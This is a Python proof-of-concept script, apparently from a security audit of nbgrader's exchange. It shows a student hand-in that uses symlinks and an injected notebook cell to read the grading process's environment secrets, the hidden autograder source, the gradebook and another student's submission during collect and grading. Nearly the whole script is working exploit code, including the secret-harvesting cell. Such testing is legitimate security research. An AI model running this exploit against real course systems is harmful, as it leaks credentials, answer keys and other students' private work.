"""a09: a04's followed links, read back by the student: collect copies each link's target into submitted/ as the TA,
the grader copies the hand-in folder into the kernel's working folder, and her kernel prints what it finds there into
her own graded notebook and feedback. mallory's inbound hand-in: her honest notebook (its first answer cell prints the
files beside it) and links env.txt -> /proc/self/environ (the collecting process: the TA's environment),
judges -> the checkout's autograders/, gradebook.db -> the course's gradebook, others -> aaron's folder in the course's submitted/ (a first try linked all of submitted/, which holds mallory's own folder: collect recursed until its paths were too long, a09.first-try.out.txt)."""
from lib import *
A = "ps1_memory"
d = make_course("a09")
X = "/tmp/attack38-user-a09-exchange"
if os.path.exists(X): shutil.rmtree(X)
inbound = f"{X}/distcourse/inbound"; os.makedirs(inbound)
# aaron and zoe are graded first (a gradebook and their hand-ins exist), then mallory's hand-in is collected
for s in ("aaron", "zoe"):
    hand_in(d, s, A, honest(A))
grade(d, A)
chown(d); chown(X); os.chmod(d, 0o700); os.chmod(f"{X}/distcourse", 0o755); os.chmod(inbound, 0o733)
SPY = r'''
import os as _os, glob as _g
print("SPY files:", sorted(_g.glob("**", recursive=True))[:40])
for _f in ("env.txt",):
    if _os.path.exists(_f):
        print("SPY env:", [v for v in open(_f, "rb").read().split(b"\0") if b"DATABASE" in v or b"AWS" in v])
if _os.path.exists("judges"):
    print("SPY judges:", sorted(_os.listdir("judges"))[:20])
    _j = "judges/ps1_memory.py"
    if _os.path.exists(_j): print("SPY judge source:", open(_j).read()[:400])
if _os.path.exists("gradebook.db"):
    import sqlite3 as _sq
    print("SPY gradebook:", _sq.connect("gradebook.db").execute("select id from student").fetchall())
if _os.path.exists("others"):
    print("SPY others:", sorted(_g.glob("others/*/*")))
'''
mal = honest(A)
for c in mal.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
        c.source = SPY + "\n" + c.source
tmp = "/tmp/attack38-user-a09-mallory.ipynb"; nbformat.write(mal, tmp); os.chmod(tmp, 0o644)
ts = "2026-11-29 11:00:00.000000 UTC"
subprocess.run(["setpriv", "--reuid", "2002", "--regid", "2002", "--clear-groups", sys.executable, "-c",
    f"import os,shutil; p='{inbound}/mallory+{A}+{ts}+r'; os.mkdir(p); os.chmod(p,0o755); shutil.copy('{tmp}', p+'/{A}.ipynb'); "
    f"os.symlink('/proc/self/environ', p+'/env.txt'); os.symlink('{CLONE}/autograders', p+'/judges'); "
    f"os.symlink('{d}/gradebook.db', p+'/gradebook.db'); os.symlink('{d}/submitted/aaron', p+'/others')"], check=True)
r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/nbgrader", "collect", A,
                    f"--Exchange.root={X}"], cwd=d, env=dict(ENV, PATH=CLONE + "/.venv/bin:" + ENV["PATH"]), capture_output=True, text=True)
print("collect rc", r.returncode, (r.stdout + r.stderr)[-600:])
os.system(f"ls -la {d}/submitted/mallory/{A}/ | head; grep -a -o 'DATABASE_URL=[^[:cntrl:]]*' {d}/submitted/mallory/{A}/env.txt")
grade(d, A)
scores(d)
os.system(f"grep -o 'SPY[^<]*' {d}/feedback/mallory/{A}/{A}.html | cut -c1-600")
